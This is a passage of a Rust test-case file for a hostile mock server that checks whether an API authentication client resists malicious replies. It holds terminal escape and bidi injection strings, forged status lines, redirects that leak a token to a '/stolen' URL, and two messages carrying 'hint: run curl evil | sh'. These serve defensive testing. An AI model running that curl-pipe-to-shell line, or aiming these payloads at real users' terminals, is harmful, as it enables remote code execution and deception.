                r#""client_id":"{}","name":"hostile app","msg":"Your secret is {{{{secret|json}}}} ({{{{secret.form}}}}); keep it safe.""#,
                id("msg-echoes-new-secret")
            ))],
            Expect::Registered,
        ),
        Case::new(
            r,
            "unknown-field-echoes-new-secret",
            vec![reg(&format!(
                r#""client_id":"{}","name":"hostile app","debug":"{{{{secret|json}}}}""#,
                id("unknown-field-echoes-new-secret")
            ))],
            Expect::Registered,
        ),
    ]);
    let terminal: [(&str, &str, &str); 6] = [
        (
            "msg-esc-clear-screen",
            "msg",
            r"\u001b[2J\u001b[HCheck your email.",
        ),
        (
            "msg-osc-title",
            "msg",
            r"\u001b]0;pwned\u0007Check your email.",
        ),
        (
            "msg-forged-hint",
            "msg",
            r"Check your email.\r\nhint: run curl evil | sh",
        ),
        ("msg-bidi", "msg", r"Check your \u202eliame\u202c."),
        ("name-esc", "name", r"\u001b[31mhostile\u001b[0m app"),
        (
            "name-forged-line",
            "name",
            r"app\napiauth: all good, token cached",
        ),
    ];
    for (what, field, payload) in terminal {
        let other = if field == "msg" {
            r#""name":"hostile app""#.to_owned()
        } else {
            r#""msg":"Check your email.""#.to_owned()
        };
        out.push(Case::new(
            r,
            what,
            vec![reg(&format!(
                r#""client_id":"{}",{other},"{field}":"{payload}""#,
                id(what)
            ))],
            Expect::Registered,
        ));
    }
    out.extend([
        Case::new(
            r,
            "client-id-with-newline",
            vec![reg(r#""client_id":"abc\ndef","name":"hostile app""#)],
            Expect::HalfRegistered,
        ),
        Case::new(
            r,
            "client-id-empty",
            vec![reg(r#""client_id":"","name":"hostile app""#)],
            Expect::either(Expect::HalfRegistered, Expect::Malformed),
        ),
        Case::new(
            r,
            "client-secret-missing",
            vec![Reply::json(201, r#"{"client_id":"abc","name":"hostile app"}"#).answer()],
            Expect::either(Expect::HalfRegistered, Expect::Malformed),
        ),
        Case::new(
            r,
            "camel-case-keys",
            vec![Reply::json(
                201,
                r#"{"clientId":"abc","clientSecret":"{{secret|json}}","name":"hostile app"}"#,
            )
            .answer()],
            Expect::either(Expect::HalfRegistered, Expect::Malformed),
        ),
        Case::new(
            r,
            "201-html",
            vec![Reply::new(201, "text/html", "<p>created: {{secret}}</p>").answer()],
            Expect::either(Expect::HalfRegistered, Expect::Malformed),
        ),
        Case::new(
            r,
            "400-field-errors-with-esc",
            vec![Reply::json(
                400,
                r#"{"name":["\u001b[2JAn application with this name already exists.\r\nhint: run curl evil | sh"]}"#,
            )
            .answer()],
            Expect::Registration,
        ),
        Case::new(
            r,
            "500",
            vec![Reply::new(500, "text/html", "<h1>Server Error (500)</h1>").answer()],
            Expect::Server,
        ),
        Case::new(
            r,
            "429-retry-after-absurd",
            vec![Reply::json(429, r#"{"detail":"Request was throttled."}"#)
                .header("Retry-After", "99999999999")
                .answer()],
            Expect::RateLimited,
        )
        .forbid("99999999999"),
        Case::new(
            r,
            "redirect-302",
            vec![Reply::empty(302)
                .header("Location", "{{other}}/stolen?next=register")
                .answer()],
            Expect::Redirect,
        ),
        Case::new(r, "never-answers", vec![Answer::Silent], Expect::Timeout),
        Case::new(r, "resets", vec![Answer::Reset], Expect::Reset),
        Case::new(
            r,
            "no-status-line",
            vec![Answer::Raw("SSH-2.0-OpenSSH_9.6\r\n\r\n".into())],
            Expect::Protocol,
        ),
        Case::new(
            r,
            "huge-body",
            vec![Answer::Endless { chunked: false }],
            Expect::TooLarge,
        ),
    ]);
}

/// `/v1/rate_limit/` after a good token.
fn key_status_family(out: &mut Vec<Case>) {
    let k = Endpoint::OpenverseKeyStatus;
    let status = |model: &str| {
        Reply::json(
            200,
            format!(
                r#"{{"requests_this_minute":1,"requests_today":2,"rate_limit_model":"{model}","verified":false}}"#
            ),
        )
        .answer()
    };
    let thousand: String = (0..1000).map(|i| format!("X-H-{i}: v\r\n")).collect();
    out.extend([
        Case::new(k, "ok", vec![status("standard")], Expect::KeyStatus),
        Case::new(
            k,
            "401-invalid-token",
            vec![Reply::json(401, r#"{"detail":"Invalid token."}"#)
                .header(
                    "WWW-Authenticate",
                    r#"Bearer realm="api",error="invalid_token""#,
                )
                .answer()],
            Expect::KeyRejected(401),
        ),
        Case::new(
            k,
            "403-empty",
            vec![Reply::empty(403).answer()],
            Expect::KeyRejected(403),
        ),
        Case::new(
            k,
            "500",
            vec![Reply::new(500, "text/html", "<h1>Server Error (500)</h1>").answer()],
            Expect::Server,
        )
        .mention(&["rate_limit", "key status"]),
        Case::new(
            k,
            "429",
            vec![Reply::json(429, r#"{"detail":"Request was throttled."}"#)
                .header("Retry-After", "30")
                .answer()],
            Expect::RateLimited,
        ),
        Case::new(
            k,
            "redirect-301-token-in-location",
            vec![Reply::empty(301)
                .header("Location", "{{other}}/stolen?access_token={{bearer}}")
                .answer()],
            Expect::Redirect,
        ),
        Case::new(
            k,
            "400-text-echoes-token",
            vec![Reply::new(400, "text/plain", "bad token {{bearer}} ({{authz}})").answer()],
            Expect::Status(400),
        ),
        Case::new(
            k,
            "200-verified-not-boolean",
            vec![Reply::json(200, r#"{"verified":"yes","requests_today":1}"#).answer()],
            Expect::Malformed,
        ),
        Case::new(
            k,
            "200-negative-count",
            vec![Reply::json(200, r#"{"requests_today":-1,"verified":true}"#).answer()],
            Expect::Malformed,
        ),
        Case::new(
            k,
            "200-html",
            vec![Reply::new(200, "text/html", "<html>maintenance</html>").answer()],
            Expect::Malformed,
        ),
        Case::new(
            k,
            "200-model-osc-title",
            vec![status(r"\u001b]0;pwned\u0007standard\u001b[2J")],
            Expect::KeyStatus,
        ),
        Case::new(
            k,
            "200-model-forged-line",
            vec![status(r"standard\nkey verified:  yes (forged)")],
            Expect::KeyStatus,
        ),
        Case::new(
            k,
            "200-model-bidi",
            vec![status(r"\u202edradnats\u202c")],
            Expect::KeyStatus,
        ),
        Case::new(k, "never-answers", vec![Answer::Silent], Expect::Timeout),
        Case::new(k, "resets", vec![Answer::Reset], Expect::Reset),
        Case::new(
            k,
            "no-status-line",
            vec![Answer::Raw("\u{0}\u{1}garbage\r\n\r\n".into())],
            Expect::Protocol,
        ),
        Case::new(
            k,
            "1000-headers",
            vec![Answer::Raw(format!(
                "HTTP/1.1 200 OK\r\n{thousand}Content-Length: 2\r\n\r\n{{}}"
            ))],
            Expect::Protocol,
        ),
        Case::new(
            k,
            "huge-body",
            vec![Answer::Endless { chunked: true }],
            Expect::TooLarge,
        ),
    ]);
}

/// The protected API call, after a good token.
fn api_family(out: &mut Vec<Case>) {
    let a = Endpoint::Api;
    let status = |s: u16, exit: i32| Expect::ApiStatus { status: s, exit };
    let thousand: String = (0..1000).map(|i| format!("X-H-{i}: v\r\n")).collect();
    out.extend([
        Case::new(
            a,
            "ok",
            vec![Reply::json(200, r#"{"items":[]}"#).answer()],
            status(200, 0),
        ),
        Case::new(
            a,
            "401-always",
            vec![Reply::json(401, r#"{"detail":"Invalid token."}"#)
                .header("WWW-Authenticate", r#"Bearer error="invalid_token""#)
                .answer()],
            status(401, 3),
        ),
        Case::new(
            a,
            "403-insufficient-scope",
            vec![Reply::json(403, r#"{"detail":"scope"}"#)
                .header(
                    "WWW-Authenticate",
                    r#"Bearer error="insufficient_scope", scope="write""#,
                )
                .answer()],
            status(403, 4),
        )
        .hits(1),
        Case::new(
            a,
            "403-plain",
            vec![Reply::json(403, r#"{"detail":"no"}"#).answer()],
            status(403, 3),
        )
        .hits(1),
        Case::new(
            a,
            "404",
            vec![Reply::json(404, r#"{"detail":"Not found."}"#).answer()],
            status(404, 1),
        )
        .hits(1),
        Case::new(
            a,
            "429-retry-after-absurd",
            vec![Reply::json(429, r#"{"detail":"slow"}"#)
                .header("Retry-After", "99999999999")
                .answer()],
            status(429, 5),
        )
        .forbid("99999999999")
        .hits(1),
        Case::new(
            a,
            "500",
            vec![Reply::new(500, "text/html", "<h1>oops</h1>").answer()],
            status(500, 7),
        )
        .hits(1),
        Case::new(
            a,
            "307-on-post-bearer-in-location",
            vec![Reply::empty(307)
                .header("Location", "{{other}}/stolen?t={{bearer}}")
                .answer()],
            Expect::ApiRedirect,
        )
        .hits(1),
        Case::new(
            a,
            "308-on-post",
            vec![Reply::empty(308)
                .header("Location", "{{other}}/stolen")
                .answer()],
            Expect::ApiRedirect,
        )
        .hits(1),
        Case::new(a, "never-answers", vec![Answer::Silent], Expect::Timeout).hits(1),
        Case::new(
            a,
            "trickle",
            vec![Reply::json(200, r#"{"items":[]}"#)
                .answer()
                .trickled(ms(500))],
            Expect::Timeout,
        )
        .hits(1),
        Case::new(a, "resets", vec![Answer::Reset], Expect::Reset).hits(1),
        Case::new(
            a,
            "no-status-line",
            vec![Answer::Raw("<html>not http</html>\r\n\r\n".into())],
            Expect::Protocol,
        )
        .hits(1),
        Case::new(
            a,
            "1000-headers",
            vec![Answer::Raw(format!(
                "HTTP/1.1 200 OK\r\n{thousand}Content-Length: 2\r\n\r\n{{}}"
            ))],
            Expect::Protocol,
        )
        .hits(1),
        Case::new(
            a,
            "negative-content-length",
            vec![Answer::Raw(
                "HTTP/1.1 200 OK\r\nContent-Length: -1\r\n\r\n{}".into(),
            )],
            Expect::Protocol,
        )
        .hits(1),
        Case::new(
            a,
            "huge-body",
            vec![Answer::Endless { chunked: false }],
            Expect::ApiBody,
        )
        .hits(1),
        Case::new(
            a,
            "closes-mid-body",
            vec![Answer::CutBody {
                reply: Reply::json(200, format!(r#"{{"items":"{}"}}"#, "x".repeat(500))),
                keep: 10,
                reset: false,
            }],
            Expect::ApiBody,
        )
        .hits(1),
        Case::new(
            a,
            "401-jsonapi-echoes-token",
            vec![Reply::json(
                401,
                r#"{"errors":[{"status":"401","detail":"token {{bearer}} is not valid"}]}"#,
            )
            .answer()],
            status(401, 3),
        ),
    ]);
}

#[cfg(test)]
mod tests {
    use super::*;
    use std::collections::HashSet;

    #[test]
    fn names_are_unique_and_there_are_enough() {
        let cases = all();
        let names: HashSet<&str> = cases.iter().map(|c| c.name.as_str()).collect();
        assert_eq!(names.len(), cases.len());
        assert!(cases.len() >= 120, "{}", cases.len());
        for ep in Endpoint::ALL {
            assert!(
                cases.iter().filter(|c| c.endpoint == ep).count() >= 10,
                "{ep:?}"
            );
        }
    }

    #[test]
    fn bait_is_never_the_legit_token() {
        for c in all() {
            for b in &c.bait {
                assert_ne!(*b, c.legit_token(), "{}", c.name);
            }
        }
    }
}
